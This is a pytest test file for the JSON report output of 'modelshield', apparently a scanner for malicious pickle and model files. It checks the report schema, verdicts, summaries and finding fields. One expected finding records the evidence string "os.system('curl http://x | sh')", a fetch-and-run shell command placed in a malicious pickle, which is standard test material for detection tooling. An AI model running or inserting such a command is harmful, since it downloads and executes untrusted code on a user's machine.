from __future__ import annotations

import dataclasses
import importlib.metadata
import json
import random
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from report_samples import PARTIAL, TORCH
from report_samples import clean_result as _clean
from report_samples import incomplete_result as _incomplete
from report_samples import sample_result as _sample

from modelshield.findings import Confidence, Finding, Location, ScanResult, Severity
from modelshield.report.json import SCHEMA_VERSION, render_json, schema, to_dict


@pytest.fixture
def result() -> ScanResult:
    return _sample()


@pytest.fixture
def clean_result() -> ScanResult:
    return _clean()


@pytest.fixture
def incomplete_result() -> ScanResult:
    return _incomplete()


SCHEMA_FILE = (
    Path(__file__).parents[2] / "src" / "modelshield" / "report" / "schemas" / "scan-result-v1.json"
)


def validate(document: Any) -> None:
    validator = jsonschema.Draft202012Validator(
        schema(), format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER
    )
    errors = sorted(validator.iter_errors(document), key=lambda e: list(e.path))
    assert not errors, "\n".join(f"{list(e.path)}: {e.message}" for e in errors)


def test_schema_is_valid_2020_12_and_packaged() -> None:
    loaded = schema()
    assert loaded["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    jsonschema.Draft202012Validator.check_schema(loaded)
    assert loaded == json.loads(SCHEMA_FILE.read_text("utf-8"))


def _property_schemas(node: Any, where: str = "#") -> Iterator[tuple[str, Any]]:
    if isinstance(node, dict):
        for name, sub in node.get("properties", {}).items():
            yield f"{where}/properties/{name}", sub
        for name, sub in node.get("$defs", {}).items():
            yield f"{where}/$defs/{name}", sub
        for key, sub in node.items():
            yield from _property_schemas(sub, f"{where}/{key}")
    elif isinstance(node, list):
        for i, sub in enumerate(node):
            yield from _property_schemas(sub, f"{where}/{i}")


def test_every_field_is_documented() -> None:
    loaded = schema()
    assert loaded.get("description")
    undocumented = [where for where, sub in _property_schemas(loaded) if not sub.get("description")]
    assert undocumented == []


@pytest.mark.parametrize("threshold", list(Severity))
def test_output_validates(result: ScanResult, threshold: Severity) -> None:
    validate(json.loads(render_json(result, threshold=threshold)))


def test_clean_and_incomplete_validate(
    clean_result: ScanResult, incomplete_result: ScanResult
) -> None:
    validate(to_dict(clean_result, threshold=Severity.HIGH))
    validate(to_dict(incomplete_result, threshold=Severity.HIGH))
    validate(to_dict(ScanResult(findings=(), coverage=()), threshold=Severity.HIGH))


def test_schema_rejects_garbage(result: ScanResult) -> None:
    document = to_dict(result, threshold=Severity.HIGH)
    document["verdict"] = "maybe"
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(document, schema(), cls=jsonschema.Draft202012Validator)


def test_top_level(result: ScanResult) -> None:
    document = to_dict(result, threshold=Severity.HIGH)
    assert document["schema_version"] == SCHEMA_VERSION == "1.0"
    assert document["tool"] == {
        "name": "modelshield",
        "version": importlib.metadata.version("modelshield"),
    }
    assert document["verdict"] == "unsafe"
    assert document["threshold"] == "high"


def test_verdicts(
    result: ScanResult, clean_result: ScanResult, incomplete_result: ScanResult
) -> None:
    assert to_dict(result, threshold=Severity.CRITICAL)["verdict"] == "unsafe"
    assert to_dict(clean_result, threshold=Severity.HIGH)["verdict"] == "clean"
    assert to_dict(incomplete_result, threshold=Severity.HIGH)["verdict"] == "incomplete"
    # an INFO finding at an INFO threshold is unsafe even though coverage is also incomplete
    assert to_dict(incomplete_result, threshold=Severity.INFO)["verdict"] == "unsafe"


def test_summary(result: ScanResult) -> None:
    summary = to_dict(result, threshold=Severity.HIGH)["summary"]
    assert summary == {
        "findings": 5,
        "findings_at_or_above_threshold": 2,
        "by_severity": {"critical": 1, "high": 1, "medium": 1, "low": 1, "info": 1},
        "suppressed": 1,
        "errors": 1,
        "inputs": ["models"],
        "files": 6,
        "bytes_read": 5116,
        "duration_s": 0.25,
        "complete": False,
    }


def test_finding_fields(result: ScanResult) -> None:
    findings = to_dict(result, threshold=Severity.HIGH)["findings"]
    assert [f["rule_id"] for f in findings] == ["MS101", "MS102", "MS105", "MS110", "MS108"]
    assert findings[0] == {
        "rule_id": "MS101",
        "rule_name": "dangerous-call",
        "severity": "critical",
        "confidence": "high",
        "message": "os.system is called when the file is loaded",
        "cwe": 502,
        "location": {
            "path": TORCH,
            "member": "archive/data.pkl",
            "offset": 58,
            "opcode_index": 12,
            "opcode": "REDUCE",
        },
        "evidence": "os.system('curl http://x | sh')",
        "reason": "runs a shell command",
        "at_or_above_threshold": True,
    }
    assert findings[2]["location"]["path"] == PARTIAL
    assert findings[2]["at_or_above_threshold"] is False


def test_coverage_errors_suppressed(result: ScanResult) -> None:
    document = to_dict(result, threshold=Severity.HIGH)
    statuses = {
        (c["path"], c["member"]): (c["status"], c["complete"]) for c in document["coverage"]
    }
    assert statuses[(PARTIAL, None)] == ("partial", False)
    assert statuses[("models/blob.bin", None)] == ("inconclusive", False)
    assert statuses[("models/README.md", None)] == ("skipped", True)
    assert statuses[(TORCH, "archive/data.pkl")] == ("scanned", True)
    assert document["errors"] == [{"path": "models/locked.pkl", "message": "permission denied"}]
    assert [f["evidence"] for f in document["suppressed"]] == ["baz.qux"]


def test_evidence_is_kept_whole() -> None:
    evidence = "x" * 10_000
    finding = Finding("MS101", Severity.CRITICAL, Confidence.HIGH, "m", Location("a"), evidence)
    document = to_dict(ScanResult(findings=(finding,), coverage=()), threshold=Severity.HIGH)
    assert document["findings"][0]["evidence"] == evidence


def test_render_is_to_dict_and_deterministic(result: ScanResult) -> None:
    text = render_json(result, threshold=Severity.HIGH)
    assert json.loads(text) == to_dict(result, threshold=Severity.HIGH)
    assert text.endswith("\n")
    text.encode("ascii")
    rng = random.Random(7)  # noqa: S311
    for _ in range(5):
        findings, coverage = list(result.findings), list(result.coverage)
        rng.shuffle(findings)
        rng.shuffle(coverage)
        shuffled = dataclasses.replace(result, findings=tuple(findings), coverage=tuple(coverage))
        assert render_json(shuffled, threshold=Severity.HIGH) == text


def test_undecodable_path_serialises() -> None:
    path = b"bad\xff.pkl".decode("utf-8", "surrogateescape")
    finding = Finding("MS101", Severity.CRITICAL, Confidence.HIGH, "m", Location(path))
    text = render_json(ScanResult(findings=(finding,), coverage=()), threshold=Severity.HIGH)
    assert "bad\\udcff.pkl" in text
